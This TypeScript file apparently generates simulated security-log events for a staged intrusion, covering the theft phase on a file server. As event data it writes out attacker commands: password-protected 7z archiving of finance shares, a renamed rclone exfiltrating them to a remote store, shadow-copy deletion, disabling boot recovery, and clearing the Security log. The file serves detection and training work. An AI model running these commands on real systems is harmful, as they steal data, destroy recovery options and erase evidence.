import { newAccountSid, type Stage } from './intrusion-stage';
import { minute, second } from './row';
import { domainRunner, type Process } from './rows/process';
import { logonRow, securityRow, subject } from './rows/security-event';
import { intruder, victims } from './story';

/** On the file server: pack, carry away, make recovery hard, clear the log. */
export function theft(stage: Stage, shell: Process): void {
  const target = stage.machine(victims.fileServer);
  const { random, clock } = stage;
  for (let part = 1; part <= 4; part++) {
    const at = clock.at('archive') + part * 17 * minute;
    const archive = target.start(shell, {
      file: '7z.exe',
      at,
      commandLine: `7z.exe a -t7z -mx1 -mhe=on -pK7!fern -v1g ${intruder.folder}\\f${part}.7z D:\\Shares\\Finance\\${2022 + part}`,
    });
    target.change(archive, at + 11 * minute, {
      action: 'FileCreated',
      folder: intruder.folder,
      file: `f${part}.7z`,
      size: random.int(700_000_000, 1_000_000_000),
    });
  }
  const out = clock.at('exfiltration');
  const copy = target.start(shell, {
    file: intruder.renamedRclone,
    folder: intruder.folder,
    at: out,
    originalName: 'rclone.exe',
    commandLine: `${intruder.renamedRclone} copy ${intruder.folder} cold:fh-archive --include "*.7z" --transfers 8 --config ${intruder.folder}\\gfx.conf --no-check-certificate`,
  });
  for (let at = out; at < out + 95 * minute; at += random.int(20, 60) * second)
    target.connect(copy, at, intruder.dropAddress, 443, intruder.dropName);

  const wipe = clock.at('no-recovery');
  target.start(shell, { file: 'vssadmin.exe', at: wipe, commandLine: 'vssadmin.exe delete shadows /all /quiet' });
  target.start(shell, {
    file: 'bcdedit.exe',
    at: wipe + 12 * second,
    commandLine: 'bcdedit.exe /set {default} recoveryenabled No',
  });
  clearLogs(stage);
}

/** With the new account, by remote desktop, first on the file server and last on the machine it came through. */
function clearLogs(stage: Stage): void {
  const { random, clock, desk } = stage;
  const account = { sam: intruder.newAccount, sid: newAccountSid };
  const management = stage.machine(victims.managementServer);
  const visits = [
    { target: stage.machine(victims.fileServer), from: management.host },
    { target: management, from: desk.host },
  ];
  for (const [index, { target, from }] of visits.entries()) {
    const at = clock.at('log-cleared') + index * 4 * minute;
    const logonId = `0x${random.hex(6)}`;
    target.put(
      'SecurityEvent',
      at - 3 * minute,
      logonRow(target.host, { ...account, type: 10, logonId, fromAddress: from.address, fromHost: from.name }),
    );
    const explorer = target.start(null, {
      file: 'explorer.exe',
      at: at - 3 * minute + second,
      runner: domainRunner(account),
      integrity: 'High',
    });
    const shell = target.start(explorer, { file: 'cmd.exe', at: at - minute });
    target.start(shell, { file: 'wevtutil.exe', at, commandLine: 'wevtutil.exe cl Security' });
    target.put('SecurityEvent', at + second, securityRow(target.host, 1102, subject(account, logonId)));
  }
}
